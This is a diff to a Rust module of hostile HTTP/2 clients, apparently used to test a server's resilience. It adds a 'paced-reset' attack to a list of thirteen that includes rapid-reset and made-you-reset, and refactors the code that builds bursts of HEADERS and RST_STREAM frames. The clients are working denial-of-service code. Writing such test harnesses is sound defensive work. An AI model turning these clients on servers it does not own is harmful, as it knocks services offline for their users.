@@ -1,12 +1,12 @@
 //! What hostile clients do. Each acts on one connection until the server has ended it, or all its streams.
 
-use std::{collections::HashSet, io, net::SocketAddr, pin::Pin, sync::LazyLock, time::Duration};
+use std::{collections::HashSet, io, net::SocketAddr, ops::Range, pin::Pin, sync::LazyLock, time::Duration};
 
 use nearby_proto::v1::{Position, SearchNearbyRequest};
 use tokio::time::sleep;
 
 use super::frames::{
-    CONTINUATION, DATA, END_HEADERS, END_STREAM, End, HEADERS, Hostile, PING, RST_STREAM, SETTINGS,
+    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, End, HEADERS, Hostile, PING, RST_STREAM, SETTINGS,
     WINDOW_UPDATE, frame, head, literal,
 };
 use crate::wire::framed;
@@ -39,8 +39,9 @@ const fn attack(name: &'static str, connections: usize, limit_s: u64, act: Act) 
 }
 
 /// All of them.
-pub static ATTACKS: [Attack; 12] = [
+pub static ATTACKS: [Attack; 13] = [
     attack("rapid-reset", 4, 10, |to, number| Box::pin(rapid_reset(to, number))),
+    attack("paced-reset", 4, 10, |to, number| Box::pin(paced_reset(to, number))),
     attack("made-you-reset", 4, 10, |to, number| Box::pin(made_you_reset(to, number))),
     attack("continuation-flood", 4, 10, |to, number| Box::pin(continuation_flood(to, number))),
     attack("header-bomb", 4, 10, |to, number| Box::pin(header_bomb(to, number))),
@@ -89,15 +90,34 @@ async fn until_ended(hostile: Hostile, mut next: impl FnMut(u32) -> Vec<u8>) -> 
 async fn rapid_reset(to: SocketAddr, number: usize) -> io::Result<End> {
     let hostile = Hostile::begin(to, number, &[]).await?;
     let block = head(SEARCH);
-    until_ended(hostile, move |turn| {
-        let streams = (turn * AT_ONCE..(turn + 1) * AT_ONCE).map(|at| 2 * at + 1);
-        let both = streams.map(|stream| {
-            [frame(HEADERS, END_HEADERS, stream, &block), frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())]
-                .concat()
-        });
-        both.collect::<Vec<_>>().concat()
-    })
-    .await
+    until_ended(hostile, move |turn| given_up(&block, turn * AT_ONCE..(turn + 1) * AT_ONCE)).await
+}
+
+/// The same, but no more at once than any caller may give up, and more only once the server has seen those.
+async fn paced_reset(to: SocketAddr, number: usize) -> io::Result<End> {
+    let mut hostile = Hostile::begin(to, number, &[]).await?;
+    let block = head(SEARCH);
+    for turn in 0.. {
+        let calls = given_up(&block, turn * AT_ONCE..(turn + 1) * AT_ONCE);
+        if hostile.say(&[calls, frame(PING, 0, 0, b"seen it?")].concat()).await.is_err() {
+            break;
+        }
+        let ended = Hostile::listen(&mut hostile.reads, |kind, flags, _| kind == PING && flags & ACK != 0);
+        match ended.await? {
+            End::Streams => {}
+            ended => return Ok(ended),
+        }
+    }
+    Ok(End::Closed)
+}
+
+fn given_up(block: &[u8], calls: Range<u32>) -> Vec<u8> {
+    let streams = calls.map(|at| 2 * at + 1);
+    let both = streams.map(|stream| {
+        [frame(HEADERS, END_HEADERS, stream, block), frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())]
+            .concat()
+    });
+    both.collect::<Vec<_>>().concat()
 }
 
 /// CVE-2025-8671: calls that the server must give up by itself, as they break a rule.
